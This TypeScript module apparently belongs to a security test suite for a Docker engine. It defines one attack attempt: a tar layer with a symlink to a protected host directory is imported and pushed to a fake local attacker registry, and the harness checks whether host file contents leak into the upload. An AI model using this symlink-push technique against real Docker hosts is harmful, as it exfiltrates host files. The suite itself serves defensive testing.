import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { Socket } from 'node:net';
import path from 'node:path';
import { gunzipSync, constants } from 'node:zlib';
import { type Attempt, type AttackResponse, type Side } from '../attempt.ts';
import { tarball } from '../accomplice/tarball.ts';

/** A registry that keeps the bytes of every layer pushed to it. */
interface Registry {
  readonly host: string;
  /**
   * The first upload the engine has sent by now, unpacked as far as it arrived; '' if it sent none.
   * The engine reports a failed upload before this process may have read, or even accepted, its connection.
   */
  firstUpload(): Promise<string>;
  close(): Promise<void>;
}

async function startRegistry(): Promise<Registry> {
  let first: readonly Buffer[] | null = null;
  const connections = new Set<Socket>();
  const server: Server = createServer((request, response) => {
    const { method = '', url = '' } = request;
    const answer = (status: number, headers: Record<string, string> = {}) => {
      response.writeHead(status, { 'Docker-Distribution-Api-Version': 'registry/2.0', ...headers });
      response.end();
    };
    const parts: Buffer[] = [];
    if (method === 'PATCH') first ??= parts;
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('error', () => undefined);
    request.on('end', () => {
      if (method === 'GET' && url === '/v2/') answer(200);
      else if (method === 'POST') answer(202, { Location: `${url}1`, 'Docker-Upload-UUID': '1' });
      else if (method === 'PATCH') answer(202, { Location: url, Range: `0-${Buffer.concat(parts).length}` });
      else if (method === 'PUT') answer(201, { Location: url });
      else answer(404);
    });
  });
  server.on('connection', (connection) => {
    connections.add(connection);
    connection.once('close', () => connections.delete(connection));
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the registry has no port');
  const host = `127.0.0.1:${address.port}`;
  return {
    host,
    firstUpload: async () => {
      // Connections are accepted in their order, and the engine closes each after one request.
      await fetch(`http://${host}/v2/`, { headers: { Connection: 'close' } });
      // Not by `once` of node:events, which rejects: a connection that is closed in a body has an error.
      await Promise.all(
        [...connections].map((connection) => new Promise((resolve) => connection.once('close', resolve))),
      );
      const bytes = Buffer.concat(first ?? []);
      return bytes.length === 0
        ? ''
        : gunzipSync(bytes, { finishFlush: constants.Z_SYNC_FLUSH }).toString('latin1');
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => {
          resolve();
        });
      }),
  };
}

/** Longer than what compression and buffers keep back when the engine notices that the content is another. */
const secretOf = (side: Side): string => path.join(side.closed, 'long');

/** A layer whose file `s/long` is, for a program that follows links, the machine's. */
function layer(side: Side): Buffer {
  const components = side.closed.split('/').slice(1);
  return tarball([
    ...components.map((_, i) => ({
      name: components.slice(0, i + 1).join('/'),
      type: 'directory' as const,
    })),
    { name: 's', type: 'link', target: side.closed },
    { name: 's/long', type: 'file', content: Buffer.from('mine') },
  ]);
}

const registries = new Map<Side, Registry>();

/** Imports the layer as an image of a registry of the attacker's, and sends `request` of that image. */
async function withImage(
  side: Side,
  request: (image: string) => Promise<AttackResponse>,
): Promise<readonly AttackResponse[]> {
  const registry = await startRegistry();
  registries.set(side, registry);
  const image = `${registry.host}/${side.tag}`;
  const imported = await side.send(
    'POST',
    `/v1.45/images/create?fromSrc=-&repo=${encodeURIComponent(image)}&tag=latest`,
    layer(side),
    'Content-Type: application/x-tar',
  );
  return [imported, await request(image)];
}

export const imageLayerAttempts: readonly Attempt[] = [
  {
    id: 'layer-link-push',
    class: 'references',
    title: 'docker push of a layer that names a file of the machine below a link',
    outcome: 'harmless',
    prepare: (side) => writeFile(secretOf(side), randomBytes(1 << 20).toString('base64')),
    attempt: (side) =>
      withImage(side, (image) =>
        side.sendRaw(
          `POST /v1.45/images/${image}/push?tag=latest HTTP/1.1\r\nHost: d\r\nContent-Length: 0\r\n` +
            'X-Registry-Auth: e30=\r\nConnection: close\r\n\r\n',
          // The engine has noticed that the content is another, and would try again several times.
          /Retrying|errorDetail|digest/,
        ),
      ),
    breach: async (side) => {
      const registry = registries.get(side);
      registries.delete(side);
      const [secret, upload] = await Promise.all([
        readFile(secretOf(side), 'latin1'),
        registry?.firstUpload() ?? '',
      ]);
      await registry?.close();
      return upload.includes(secret.slice(0, 1000));
    },
  },
];
